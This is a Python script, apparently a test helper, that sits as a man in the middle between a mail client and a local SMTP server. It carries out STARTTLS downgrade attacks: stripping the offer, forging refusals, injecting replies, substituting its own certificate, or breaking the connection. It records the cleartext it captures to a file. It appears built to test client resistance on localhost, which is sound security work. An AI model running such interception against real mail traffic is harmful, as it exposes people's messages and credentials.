# SPDX-License-Identifier: ISC
"""A man in the middle of mail: between a client and the server at PORT.

middle.py ATTACK PORT

His port is written to `middle.port`, the bytes that he could read to `wire`, in
clear or under his own certificate.

    watch   does nothing
    strip   takes STARTTLS out of what the server offers
    refuse  answers STARTTLS with 454 himself
    deny    answers STARTTLS with 502 himself
    junk    answers it with 220, and no TLS behind that
    close   answers it with 220, and is gone
    reset   likewise, and breaks the connection
    inject  has a reply of his own right behind the 220
    other   answers with a certificate of his own, other.pem
    stall   answers with 220 and says nothing more
"""
import os
import re
import socket
import ssl
import struct
import sys
import threading


def put_wire(data):
    fd = os.open('wire', os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
    os.write(fd, data)
    os.close(fd)


class Middle:
    def __init__(self, attack, port, client):
        self.attack = attack
        self.client = client
        self.server = socket.create_connection(('127.0.0.1', port))

    def down(self):
        """What the server says, as it is, or without an offer."""
        try:
            while data := self.server.recv(65536):
                if self.attack == 'strip':
                    data = re.sub(rb'250-STARTTLS\r\n', b'', data)
                    data = re.sub(rb'\r\n250-([^\r]*)\r\n250 STARTTLS\r\n',
                                  rb'\r\n250 \1\r\n', data)
                self.client.sendall(data)
            self.client.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def tls(self):
        """Be the server: to everything that is well-formed, 250."""
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        c.load_cert_chain('other.pem', 'other.pem.key')
        with c.wrap_socket(self.client, server_side=True) as tls:
            while data := tls.recv(65536):
                put_wire(data)
                tls.sendall(b'354 go\r\n' if data.startswith(b'DATA')
                            else b'250 ok\r\n')

    def starttls(self):
        if self.attack == 'refuse':
            self.client.sendall(b'454 4.7.0 not now\r\n')
            return True
        if self.attack == 'deny':
            self.client.sendall(b'502 5.5.1 no such command\r\n')
            return True
        if self.attack == 'inject':
            self.client.sendall(b'220 go\r\n250-hi\r\n250 AUTH PLAIN\r\n')
            return True
        self.client.sendall(b'220 2.0.0 go\r\n')
        if self.attack == 'junk':
            # Not behind the 220, which would be another attack.
            self.client.recv(65536)
            self.client.sendall(b'\x16\x03\x03\x00\x02what\r\n' * 100)
        elif self.attack == 'reset':
            self.client.recv(65536)
            self.client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                   struct.pack('ii', 1, 0))
            self.client.close()
        elif self.attack == 'stall':
            while self.client.recv(65536):
                pass
        elif self.attack == 'other':
            self.tls()
        self.client.close()
        return False

    def up(self):
        """What the client says, which goes no further where it is his."""
        passes = self.attack in ('watch', 'strip')
        while data := self.client.recv(65536):
            put_wire(data)
            if not passes and data.upper().startswith(b'STARTTLS'):
                if not self.starttls():
                    break
            else:
                self.server.sendall(data)

    def run(self):
        down = threading.Thread(target=self.down, daemon=True)
        down.start()
        try:
            self.up()
        except OSError:
            pass
        self.server.close()
        self.client.close()


def main():
    attack, port = sys.argv[1], int(sys.argv[2])
    listener = socket.create_server(('127.0.0.1', 0))
    with open('middle.port.new', 'w', encoding='ascii') as f:
        print(listener.getsockname()[1], file=f)
    os.rename('middle.port.new', 'middle.port')
    while True:
        client, _ = listener.accept()
        threading.Thread(target=Middle(attack, port, client).run,
                         daemon=True).start()


if __name__ == '__main__':
    main()
